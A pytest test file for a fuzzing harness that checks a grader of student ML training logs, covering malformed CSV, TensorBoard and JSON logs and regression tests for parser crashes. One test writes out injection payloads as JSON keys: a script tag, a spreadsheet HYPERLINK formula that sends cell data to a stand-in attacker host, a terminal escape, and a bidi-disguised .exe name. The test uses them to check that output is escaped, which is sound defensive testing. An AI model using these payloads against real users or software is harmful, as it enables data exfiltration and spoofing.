"""A student's own logs through the grading logic under generated input: benchmarks/fuzz_logs.py's seeded generators
on two tiny honest submissions (a 40-step sweep and a 1-epoch run, seeded: the rerun is the student's run), a few
dozen cases, each graded in process with every output checked (no exception, no "internal grader error", no unsafe
output line, bounded time). The checker itself is tested on planted unsafe outputs, and the defects the long run
found are reproduced as regression tests.

`python benchmarks/fuzz_logs.py --n 3000` is the long run, committed in benchmarks/results/fuzz_logs.txt.
"""

import importlib.util
import json
import random
import sys
from collections import Counter
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
_spec = importlib.util.spec_from_file_location("fuzz_logs", ROOT / "benchmarks" / "fuzz_logs.py")
fuzz = importlib.util.module_from_spec(_spec)
sys.modules["fuzz_logs"] = fuzz  # its dataclasses look their module up
_spec.loader.exec_module(fuzz)

TINY = {
    "sweep": {
        "part": "range_test",
        "seed": 0,
        "stated": True,
        "format": "csv",
        "entry": {
            "name": "sweep",
            "optimizer": "sgd",
            "start_lr": 1e-5,
            "end_lr": 10.0,
            "steps": 40,
            "rule": "steepest",
        },
    },
    "run": {
        "part": "run",
        "seed": 0,
        "stated": True,
        "format": "tb",
        "entry": {"name": "run", "optimizer": "sgd", "lr": 0.05, "epochs": 1},
    },
}
TINY_ASSIGNMENT = """name = "fuzz_logs test"
dataset = "mnist-5k"
train_epochs = 1
max_epochs = 1
max_sweep_steps = 100
quick_epochs = 1
required = []

[tolerances]
probe_epochs = 0
"""
CASES = 16
JSON_CASES = 8  # the JSON branch's own (about 5 more of the 16 above are JSON)


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    """The tiny seeds' student runs and a warm rerun cache: (seeds, work folder, cache)."""
    mp = pytest.MonkeyPatch()
    mp.setattr(fuzz, "SEEDS", TINY)
    mp.setattr(fuzz, "ASSIGNMENT", TINY_ASSIGNMENT)
    work = tmp_path_factory.mktemp("fuzz_logs")
    seeds = fuzz.prepare(work, quiet=False)  # the session's logging and warnings left as they are
    for name in TINY:  # each seed graded once with its honest log: its reruns in the cache
        entry = {**fuzz.seed_entry(name), **seeds[name]["claims"], "logs": "run.csv"}
        warm = fuzz.Case(name, entry, {"run.csv": fuzz.csv_text(seeds[name]["curves"]).encode()}, ["warm"])
        assert fuzz.run_case(warm, work / "warm", work / "cache", timeout=120)["outcome"] == "accepted"
    yield seeds, work, work / "cache"
    mp.undo()


@pytest.mark.filterwarnings("ignore::RuntimeWarning")  # numpy overflow plotting a logged 1e308 (drawn, not raised)
@pytest.mark.parametrize(("prefix", "cases", "formats"), [("test", CASES, None), ("json", JSON_CASES, ("json",))])
def test_generated_logs_are_graded_or_refused_cleanly(tiny, prefix, cases, formats):
    seeds, work, cache = tiny
    outcomes, bad = Counter(), []
    for i in range(cases):
        case = fuzz.make_case(random.Random(f"{prefix}:{i}"), seeds, *([formats] if formats else []))
        r = fuzz.run_case(case, work / "cases", cache, timeout=30.0)
        outcomes[r["outcome"]] += 1
        if r["outcome"] not in ("accepted", "refused"):
            bad.append((i, r["outcome"], r["signature"], r["detail"][:300], case.ops))
        assert r["seconds"] < fuzz.HANG_S, (i, r["seconds"], case.ops)
    assert not bad, bad[:3]
    assert outcomes["accepted"] and outcomes["refused"]  # the generators reach both sides of the boundary


@pytest.mark.parametrize(
    "variant",
    [
        "BOM",
        "CRLF",
        "every cell quoted",
        "a trailing comma on every line",
        "steps counted from 1",
        "common column names (global_step, learning_rate, loss, val_loss, val_acc)",
        "no step column, pandas' index",
        "TensorBoard runs/<date> sub-folder",
        "JSON columns (json.dump(history), null where not logged)",
        "JSON records, a key left out where not logged",
        "JSON columns in a file without a suffix (logs/history)",
    ],
)
def test_harmless_formatting_of_an_honest_log_is_borne_out(tiny, variant):
    seeds, work, cache = tiny
    r = fuzz.run_case(fuzz.honest_case(seeds, "run", variant), work / "honest", cache)
    assert r["outcome"] == "accepted", r["detail"]
    assert r["logs"].startswith("The log matches the rerun: LR table exact"), r["logs"]
    assert all(m.startswith("PASS") for m in r["messages"]), r["messages"]


@pytest.mark.parametrize(
    "key",
    ["<script>alert('FUZZ')</script>", '=HYPERLINK("http://evil.example/?"&A1,"click")', "\x1b]0;PWNED\x07",
     "\u202egnp.exe", "**bold** | `code` [x](http://e)"],
    ids=["html", "formula", "osc", "bidi", "markdown"],
)  # fmt: skip
@pytest.mark.parametrize("value", [0.1, "A" * 50], ids=["number", "text"])
def test_hostile_keys_of_a_json_log_come_out_escaped(tiny, key, value):
    """A JSON log's keys are the student's text: named in the logs check's lines (a column not read, a column holding
    text) and in every output, escaped."""
    seeds, work, cache = tiny
    case = fuzz.honest_case(seeds, "run", "JSON columns (json.dump(history), null where not logged)")
    columns = json.loads(case.files["logs/run.json"])
    columns[key] = [value] * len(columns["step"])
    case = fuzz.replace(case, files={"logs/run.json": json.dumps(columns).encode()})
    r = fuzz.run_case(case, work / "keys", cache)
    assert r["outcome"] == ("accepted" if value == 0.1 else "refused"), (r["outcome"], r["detail"])


def test_the_generators_are_seeded(tiny):
    seeds, _, _ = tiny
    for formats in (fuzz.LOG_FORMATS, ("csv", "tb"), ("json",)):
        a = [fuzz.make_case(random.Random(f"s:{i}"), seeds, formats) for i in range(10)]
        b = [fuzz.make_case(random.Random(f"s:{i}"), seeds, formats) for i in range(10)]
        assert [(c.entry, c.files, c.ops) for c in a] == [(c.entry, c.files, c.ops) for c in b]
        assert len({json.dumps(c.ops) for c in a}) > 5
        assert {c.fmt for c in a} <= set(formats)


def test_the_output_checker_finds_planted_unsafe_lines(tmp_path):
    out = tmp_path / "reports"
    (out / "s1").mkdir(parents=True)
    (out / "s1" / "report.md").write_text("ok \\<script> escaped\n")
    (out / "s1" / "report.html").write_text('<p>&lt;script&gt; and <img src="data:image/png;base64,AA"></p>\n')
    (out / "s1" / "results.json").write_text('{"output": "fine \\n line", "x": null}\n')
    (out / "grades.csv").write_text("id,first problem\r\ns1,'=HYPERLINK(x)\r\n")
    assert fuzz.unsafe_outputs(out, "table\nrow\n") == []
    (out / "s1" / "report.md").write_text("logged \x1b[31mred\n")
    (out / "s1" / "report.html").write_text("<p><script>alert('FUZZ')</script></p>\n")
    (out / "s1" / "results.json").write_text('{"score": NaN, "output": "\\u001b]0;x"}\n')
    (out / "grades.csv").write_text("id,first problem\r\ns1,=HYPERLINK(x)\r\n")
    found = " | ".join(fuzz.unsafe_outputs(out, "bell \x07\n"))
    for what in (
        "report.md: raw control",
        "report.html: unescaped markup",
        "results.json: not valid JSON",
        "grades.csv row 2: unsafe cell",
        "terminal: raw control",
    ):
        assert what in found, (what, found)


def test_minimization_keeps_the_failure():
    items = list(range(100))
    assert fuzz.ddmin(items, lambda xs: 37 in xs and 80 in xs, 200) == [37, 80]


# ---------------------------------------------------------------- defects the long run found (fixed in 6109706 but one)


@pytest.mark.parametrize(
    "text",
    [
        "step,lr,train_loss,epoch,test_loss,test_accuracy\n0,\r=1,2.3,,,\n",
        "step,lr,train_loss,epoch,test_loss,test_accuracy\n0," + "9" * 200_000 + ",2.3,,,\n",
    ],
    ids=["CR in a cell", "a 200,000-character cell"],
)
def test_a_csv_that_python_cannot_split_is_one_clean_line(tmp_path, text):
    """csv.Error (a CR inside an unquoted field; a field over csv's 131,072-character limit) was not caught: the loading
    boundary reported an internal error for the whole submission."""
    from grader.logs import LogError, read_csv

    path = tmp_path / "run.csv"
    path.write_bytes(text.encode())
    with pytest.raises(LogError) as err:
        read_csv(path, "logs/run.csv")
    assert "\n" not in str(err.value) and str(err.value).isprintable() and len(str(err.value)) <= 400


def test_a_classic_mac_csv_is_read(tmp_path):
    """CR line ends (csv.Error before): read as the rows they are."""
    from grader.logs import read_csv

    path = tmp_path / "run.csv"
    path.write_bytes(b"step,lr,train_loss,epoch,test_loss,test_accuracy\r0,0.05,2.3,,,\r1,0.05,2.2,1,0.5,0.8\r")
    logs = read_csv(path, "logs/run.csv")
    assert logs.step == [0, 1] and logs.train_loss == [2.3, 2.2] and logs.test_accuracy == [0.8]


def test_denormal_losses_and_negative_steps_do_not_raise_in_the_diagnoses():
    """Each was an "internal grader error" row: log(5e-324 / 2.3) (a denormal claimed loss, Case.near_rel); a logged
    Loss/test of 5e-324 making the median ratio inf (loss_test_artifact); a logged step of -100 indexing the LR table
    from its end (_table_matches)."""
    from grader.diagnoses import Case, _per_step_config, _table_matches, loss_test_artifact
    from reference.config import RunConfig, ScheduleConfig
    from reference.outputs import Logs

    assert Case("loss_claim", None, None, None, None).near_rel("test_loss", 5e-324, 2.3) is False
    rerun = {"epochs": [{"epoch": 1, "test_loss": 0.67}, {"epoch": 3, "test_loss": 0.29}], "final": {"test_loss": 0.29}}
    logs = Logs("logs/run.csv", [0, 1], [0.05, 0.05], [2.3, 2.2], [1, 3], [0.67, 5e-324], [0.8, 0.9])
    loss_test_artifact(Case("loss_claim", None, RunConfig(epochs=3, lr=0.05), rerun, None, logs=logs))
    cfg = RunConfig(epochs=3, lr=0.05, schedule=ScheduleConfig(name="multistep", milestones=(1, 2), gamma=0.1))
    case = Case("accuracy_claim", None, cfg, None, None, logs=Logs("logs/run.csv", [-100], [0.05], [2.3]))
    assert _table_matches(case, _per_step_config(case)) is False


def test_a_denormal_claimed_loss_is_not_read_as_a_train_loss():
    """grader/diagnoses.py train_as_test: log(claimed / test) where a denormal claimed_test_loss (5e-324, written or
    read from a log's last Loss/test) over a rerun's test loss above ~2 underflowed to 0: an 'internal grader error'
    row (the sibling of near_rel's; benchmarks/results/fuzz_logs.txt)."""
    from types import SimpleNamespace

    from grader.diagnoses import Case, train_as_test

    rerun = {"final": {"epoch": 3, "train_loss": 2.2, "test_loss": 2.3}}
    claim = SimpleNamespace(claimed_test_loss=5e-324, epochs=3)
    assert train_as_test(Case("loss_claim", claim, None, rerun, None)) is None
